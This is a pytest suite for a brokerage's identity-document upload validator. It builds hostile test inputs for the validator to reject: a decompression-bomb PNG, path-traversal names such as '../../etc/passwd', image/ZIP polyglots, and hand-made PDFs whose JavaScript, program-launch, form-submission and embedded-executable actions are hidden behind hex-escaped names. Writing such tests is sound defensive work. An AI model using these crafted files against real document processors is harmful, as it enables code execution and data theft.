"""Bad files are refused with a clear message before anything is stored."""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from brokerage.errors import InvalidInput
from brokerage.uploads import MAX_BYTES, check_upload, safe_name
from kyc import specimens


def upload(data, name="doc.jpg"):
    return SimpleUploadedFile(name, data)


def png_bytes(size=(1200, 800)):
    out = io.BytesIO()
    Image.new("RGB", size, (250, 250, 250)).save(out, "PNG")
    return out.getvalue()


def bomb_png(side=30000):
    """A tiny PNG that claims side x side pixels (a decompression bomb)."""
    raw = zlib.compress(b"\x00" * (side + 1) * 10)

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", raw)
        + chunk(b"IEND", b"")
    )


def test_good_files_pass_with_their_hash():
    jpeg = specimens.passport(specimens.Person())
    checked = check_upload(upload(jpeg, "passport.jpeg"))
    assert checked.content_type == "image/jpeg" and (checked.width, checked.height) == (1500, 1000)
    assert len(checked.sha256) == 64
    pdf = check_upload(upload(specimens.proof_of_address_pdf(specimens.Person()), "bill.pdf"))
    assert pdf.content_type == "application/pdf" and pdf.pages == 1
    assert check_upload(upload(png_bytes(), "scan.png")).content_type == "image/png"


def test_the_bytes_decide_not_the_extension():
    png = check_upload(upload(png_bytes(), "looks-like.pdf"))
    assert png.content_type == "image/png" and png.extension == "png"


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "photo.jpg", "Only JPEG or PNG"),
        (b"MZ\x90\x00" + b"\x00" * 200, "photo.jpg", "Only JPEG or PNG"),
        (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "id.jpg", "Only JPEG or PNG"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "id.png",
            "Only JPEG or PNG",
        ),
        (b"", "empty.jpg", "empty"),
    ],
)
def test_wrong_kinds_of_file_are_refused(data, name, message):
    with pytest.raises(InvalidInput, match=message):
        check_upload(upload(data, name))


def test_a_truncated_image_is_refused():
    jpeg = specimens.passport(specimens.Person())
    with pytest.raises(InvalidInput, match="damaged or incomplete"):
        check_upload(upload(jpeg[: len(jpeg) // 2]))


def test_a_decompression_bomb_is_refused():
    with pytest.raises(InvalidInput, match="too large"):
        check_upload(upload(bomb_png(), "bomb.png"))


def _pdf_with(action):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(
        clone_from=PdfReader(io.BytesIO(specimens.proof_of_address_pdf(specimens.Person())))
    )
    action(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("action", "message"),
    [
        (
            lambda w: w.add_open_action(
                __import__("pypdf.actions", fromlist=["JavaScript"]).JavaScript("app.alert(1);")
            ),
            "carries JavaScript",
        ),
        (lambda w: w.add_attachment("invoice.exe", b"MZ payload"), "carries attached files"),
    ],
    ids=["javascript", "attachment"],
)
def test_a_pdf_with_scripts_or_attachments_is_refused(action, message):
    with pytest.raises(InvalidInput, match=message):
        check_upload(upload(_pdf_with(action), "bill.pdf"))


def test_a_damaged_pdf_is_refused():
    with pytest.raises(InvalidInput, match="damaged"):
        check_upload(upload(b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n%%EOF", "bill.pdf"))


def test_a_100_mb_file_is_refused_without_reading_it_all():
    class Huge:
        name, size = "huge.jpg", 100 * 1024 * 1024

        def read(self, n=-1):
            raise AssertionError("must not be read")

    with pytest.raises(InvalidInput, match="at most 10 MB"):
        check_upload(Huge())
    assert MAX_BYTES == 10 * 1024 * 1024


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("/abs/path/id.jpg", "id.jpg"),
        ("na\x00me.jpg", "name.jpg"),
        (".hidden.png", "hidden.png"),
        ("", "document"),
    ],
)
def test_file_names_lose_their_paths(raw, safe):
    assert safe_name(raw) == safe


def handmade_pdf(catalog_extra=b"", page_extra=b"", extra_objects=()):
    """A one-page PDF written by hand, so its names can be spelled as an attacker spells
    them (pypdf's writer would normalise them)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b">>",
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def test_a_handmade_plain_pdf_passes():
    assert check_upload(upload(handmade_pdf(), "bill.pdf")).pages == 1
    # Opening on the first page is an action that runs nothing: it passes.
    assert check_upload(upload(handmade_pdf(b"/OpenAction [3 0 R /Fit] "), "bill.pdf")).pages == 1


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        # The action names hex-escaped: /J#61vaScript is /JavaScript, /J#53 is /JS.
        (
            {
                "catalog_extra": b"/OpenAction 4 0 R ",
                "extra_objects": [b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>"],
            },
            "JavaScript",
        ),
        (
            {
                "catalog_extra": b"/Op#65nAction << /S /#4A#61#76#61Script /JS 4 0 R >> ",
                "extra_objects": [b"(app.alert(1))"],
            },
            "JavaScript",
        ),
        # A link annotation whose action is a script, reached only through the page.
        (
            {
                "page_extra": b"/Annots [4 0 R] ",
                "extra_objects": [
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
                    b"/A << /S /JavaScr#69pt /JS (this.submitForm('https://x.example')) >> >>"
                ],
            },
            "JavaScript",
        ),
        # Page-open additional action launching a program.
        ({"page_extra": b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >> "}, "launches a program"),
        (
            {"catalog_extra": b"/OpenAction << /S /SubmitF#6frm /F (https://x.example) >> "},
            "sends data out",
        ),
        # An attached file, named with escapes, and an object the catalogue does not reach.
        (
            {
                "catalog_extra": b"/Names << /Embedd#65dFiles 4 0 R >> ",
                "extra_objects": [
                    b"<< /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >>",
                    b"<< /Length 2 >>\nstream\nMZ\nendstream",
                ],
            },
            "attached files",
        ),
        (
            {"extra_objects": [b"<< /Type /Filespec /F (a.exe) /#45F << /F 3 0 R >> >>"]},
            "attached files",
        ),
        (
            {"page_extra": b"/Annots [<< /Subtype /FileAtt#61chment /Rect [0 0 1 1] >>] "},
            "attached files",
        ),
        (
            {
                "catalog_extra": b"/AcroF#6Frm << /Fields [] /XFA 4 0 R >> ",
                "extra_objects": [b"(<xdp/>)"],
            },
            "form",
        ),
    ],
    ids=[
        "openaction-escaped",
        "inline-escaped",
        "link-annotation",
        "page-aa-launch",
        "submitform",
        "embedded-files",
        "orphan-filespec",
        "file-annotation",
        "acroform-xfa",
    ],
)
def test_active_content_is_refused_however_its_names_are_spelled(kwargs, message):
    with pytest.raises(InvalidInput, match=message) as refused:
        check_upload(upload(handmade_pdf(**kwargs), "bill.pdf"))
    assert "is not accepted" in str(refused.value)


def zip_bytes():
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


def test_a_photo_is_stored_as_pillow_writes_it_and_keeps_the_original_hash():
    """A JPEG with a ZIP appended (a polyglot) is stored without it: the stored file is the
    picture re-encoded. The hash is the uploaded file's, so duplicates are still found."""
    import hashlib

    jpeg = specimens.passport(specimens.Person())
    polyglot = jpeg + zip_bytes()
    checked = check_upload(upload(polyglot, "passport.jpg"))
    assert checked.sha256 == hashlib.sha256(polyglot).hexdigest()
    assert b"PK\x03\x04" not in checked.data and b"<script>" not in checked.data
    assert checked.data.startswith(b"\xff\xd8") and checked.data.endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(checked.data)) as stored:
        assert stored.format == "JPEG" and stored.size == (1500, 1000)
    # The same photo again is the same hash (what duplicate detection compares).
    assert check_upload(upload(polyglot, "again.jpg")).sha256 == checked.sha256


def test_a_photo_is_turned_upright_and_loses_its_metadata():
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to view
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
    Image.new("RGB", (300, 200), (200, 30, 30)).save(
        out, "JPEG", exif=exif, comment=b"<script>alert(1)</script>"
    )
    checked = check_upload(upload(out.getvalue(), "sideways.jpg"))
    assert (checked.width, checked.height) == (200, 300)
    with Image.open(io.BytesIO(checked.data)) as stored:
        assert stored.size == (200, 300)
        assert not stored.getexif() and "exif" not in stored.info and "comment" not in stored.info
    assert b"PhoneMaker" not in checked.data and b"<script>" not in checked.data


def test_a_png_loses_its_text_chunks_and_anything_appended():
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    out = io.BytesIO()
    Image.new("RGBA", (640, 480), (10, 20, 30, 255)).save(out, "PNG", pnginfo=info)
    checked = check_upload(upload(out.getvalue() + zip_bytes(), "scan.png"))
    assert checked.content_type == "image/png"
    assert b"<script>" not in checked.data and b"PK\x03\x04" not in checked.data
    assert checked.data.endswith(b"IEND\xaeB`\x82")
    with Image.open(io.BytesIO(checked.data)) as stored:
        assert stored.mode == "RGBA" and stored.size == (640, 480)
